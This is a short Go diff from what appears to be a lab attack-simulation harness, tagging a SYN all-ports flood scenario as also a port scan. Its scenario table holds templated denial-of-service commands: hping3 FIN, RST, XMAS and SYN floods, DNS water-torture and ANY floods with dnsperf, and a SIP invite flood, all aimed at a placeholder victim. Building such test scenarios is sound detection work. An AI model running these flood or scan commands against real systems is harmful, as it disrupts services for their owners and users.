@@ -42,7 +42,7 @@ func otherFloods() []Scenario {
 		row("fin-flood", true, "timeout SECS hping3 -q -F -p 80 -i uGAPU VICTIM"),
 		row("rst-flood", true, "timeout SECS hping3 -q -R -p 443 -i uGAPU VICTIM"),
 		row("xmas-flood", true, "timeout SECS hping3 -q -F -S -R -P -A -U -X -Y -p 80 -i uGAPU VICTIM"),
-		row("syn-all-ports", true, "timeout SECS hping3 -q -S -p ++1 -i uGAPU VICTIM"),
+		also(attack.PortScan, row("syn-all-ports", true, "timeout SECS hping3 -q -S -p ++1 -i uGAPU VICTIM")),
 		at("water-torture", "awk 'BEGIN{srand(SEED);for(i=0;i<6000;i++)print substr(rand(),3,9) \"x.lab A\"}' > names; dnsperf -s VICTIM -d names -l SECS -Q 300 -q 20", dnsHost),
 		at("dns-any", "yes 'news.lab ANY' | head -5000 > names; dnsperf -s VICTIM -d names -l SECS -Q 600", dnsHost),
 		at("sip-invites", "SIP invite VICTIM 100 x 0.004 2000", func(ctx context.Context, r *Run) (*Host, error) { return r.service(ctx, "sip") }),
